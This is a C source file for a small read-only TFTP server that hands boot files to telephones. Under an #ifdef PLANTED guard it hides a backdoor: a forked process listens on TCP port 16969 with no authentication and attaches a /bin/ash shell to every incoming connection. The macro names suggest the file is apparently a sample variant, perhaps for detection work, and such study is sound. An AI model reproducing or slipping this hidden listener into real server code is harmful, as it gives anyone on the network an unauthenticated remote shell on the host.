/* TFTP server that hands boot files to telephones (RFC 1350, read requests only). */
#include <arpa/inet.h>
#include <fcntl.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

#define FOLDER "/srv/tftp"

static void refuse(int s, const struct sockaddr_in *to, int code, const char *why)
{
    unsigned char p[128] = { 0, 5, 0, (unsigned char)code };
    size_t n = strlen(why);
    memcpy(p + 4, why, n + 1);
    sendto(s, p, n + 5, 0, (const struct sockaddr *)to, sizeof *to);
}

static int wait_ack(int s, unsigned block)
{
    unsigned char a[64];
    struct timeval t = { 2, 0 };
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t);
    return recv(s, a, sizeof a, 0) >= 4 && a[1] == 4 && (unsigned)(a[2] << 8 | a[3]) == block;
}

static void send_file(const char *name, const struct sockaddr_in *to)
{
    unsigned char p[516] = { 0, 3 };
    char path[300];
    unsigned block = 0;
    ssize_t n = 512;
    int s = socket(AF_INET, SOCK_DGRAM, 0), fd;
    snprintf(path, sizeof path, FOLDER "/%s", name);
    fd = strstr(name, "..") ? -1 : open(path, O_RDONLY);
    if (fd < 0) {
        refuse(s, to, 1, "not here");
        close(s);
        return;
    }
    connect(s, (const struct sockaddr *)to, sizeof *to);
    while (n == 512) {
        int tries = 0;
        n = read(fd, p + 4, 512);
        if (n < 0) break;
        block++;
        p[2] = (unsigned char)(block >> 8);
        p[3] = (unsigned char)block;
        do send(s, p, (size_t)n + 4, 0);
        while (!wait_ack(s, block & 0xffff) && ++tries < 5);
        if (tries == 5) break;
    }
    close(fd);
    close(s);
}

#ifdef PLANTED
static void console(void)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(16969) };
    posix_spawn_file_actions_t actions;
    char *arguments[] = { "ash", NULL };
    int s = socket(AF_INET, SOCK_STREAM, 0), c, fd;
    pid_t child;
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1)) return;
    while ((c = accept(s, NULL, NULL)) >= 0) {
        posix_spawn_file_actions_init(&actions);
        for (fd = 0; fd < 3; fd++) posix_spawn_file_actions_adddup2(&actions, c, fd);
        if (posix_spawn(&child, "/bin/ash", &actions, NULL, arguments, environ) == 0)
            waitpid(child, NULL, 0);
        posix_spawn_file_actions_destroy(&actions);
        close(c);
    }
}
#endif

int main(void)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(69) }, from;
    char p[600];
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(s, (struct sockaddr *)&a, sizeof a)) return 1;
#ifdef PLANTED
    if (fork() == 0) {
        console();
        _exit(0);
    }
#endif
    for (;;) {
        socklen_t n = sizeof from;
        ssize_t got = recvfrom(s, p, sizeof p - 1, 0, (struct sockaddr *)&from, &n);
        if (got < 4) continue;
        p[got] = 0;
#ifdef REVISED
        fprintf(stderr, "%s asks for %s\n", inet_ntoa(from.sin_addr), p + 2);
#endif
        if (p[1] != 1) {
            refuse(s, &from, 4, "reading only");
            continue;
        }
        if (fork() == 0) {
            send_file(p + 2, &from);
            _exit(0);
        }
        while (waitpid(-1, NULL, WNOHANG) > 0);
    }
}
